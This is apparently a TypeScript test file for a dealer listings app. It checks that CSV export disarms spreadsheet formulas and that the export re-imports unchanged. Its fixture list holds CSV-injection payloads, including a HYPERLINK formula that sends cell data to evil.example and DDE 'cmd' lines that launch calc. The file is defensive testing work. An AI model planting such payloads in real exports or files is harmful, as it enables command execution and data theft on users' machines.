/**
 * CSV export never hands a spreadsheet a live formula (issue #11, item 6), and re-importing the
 * export changes nothing: the apostrophe that disarms a cell is taken off again.
 */
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import "../foundation/session";
import { signInAs } from "../foundation/session";
import { car, dealerId } from "../listings/helpers";
import { importCsvAction, saveListingAction } from "@/app/(dashboard)/d/[dealer]/listings/actions";
import { GET as exportRoute } from "@/app/(dashboard)/d/[dealer]/listings/export/route";
import { db } from "@/lib/db";
import { fromRow } from "@/lib/listings/store";

const tag = `fx${Date.now().toString(36)}`;
const HOSTILE_TITLES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click for photos")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted by the dealer",
  "=multi-line\nformula",
];

const exportCsv = async (query: string) =>
  (await exportRoute(new Request(`http://localhost/d/auto-gent/listings/export?${query}`), { params: Promise.resolve({ dealer: "auto-gent" }) })).text();

describe("CSV export and formulas", () => {
  test("no exported cell starts with = + - @ tab or CR; the round trip is exact", async () => {
    await signInAs("owner@autogent.test");
    const saved: { id: string; title: string }[] = [];
    for (const [i, title] of HOSTILE_TITLES.entries()) {
      const listing = car({ reference: `${tag}-${i}`, title: title.padEnd(10, "."), description: `=HYPERLINK("x")\nline two`, contactPhone: "+3291234567" });
      const result = await saveListingAction({ dealer: "auto-gent", listing, channels: {} });
      expect(result.validationErrors ?? result.serverError).toBeUndefined();
      saved.push({ id: result.data!.id!, title: listing.title });
    }
    const csv = await exportCsv(`q=${tag}`);
    const rows = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true }).data;
    expect(rows.length).toBe(HOSTILE_TITLES.length + 1);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }

    // Import the export as it is: every car is found again, and nothing about it changed.
    const before = await db.listing.findMany({ where: { id: { in: saved.map((s) => s.id) } }, orderBy: { reference: "asc" } });
    const imported = await importCsvAction({ dealer: "auto-gent", csv, skipInvalid: false });
    expect(imported.data?.preview.problems).toEqual([]);
    // Exact: every car matches what it holds, so nothing is written (imports merge and skip unchanged cars).
    expect(imported.data).toMatchObject({ imported: 0, unchanged: HOSTILE_TITLES.length, preview: { updates: 0, creates: 0 } });
    const after = await db.listing.findMany({ where: { dealerId: await dealerId("auto-gent"), reference: { startsWith: tag } }, orderBy: { reference: "asc" } });
    // The canonical listing, with absent and empty fields alike (the import writes explicit nulls).
    const facts = (l: (typeof before)[number]) => JSON.parse(JSON.stringify(fromRow(l), (_k, v) => (v === null ? undefined : v)));
    expect(after.map(facts)).toEqual(before.map(facts));
    // The titles really were dangerous as stored (the editor trims leading tabs, not formulas).
    expect(after.filter((l) => /^[=+\-@]/.test(l.title))).toHaveLength(HOSTILE_TITLES.length - 1);
  });
});
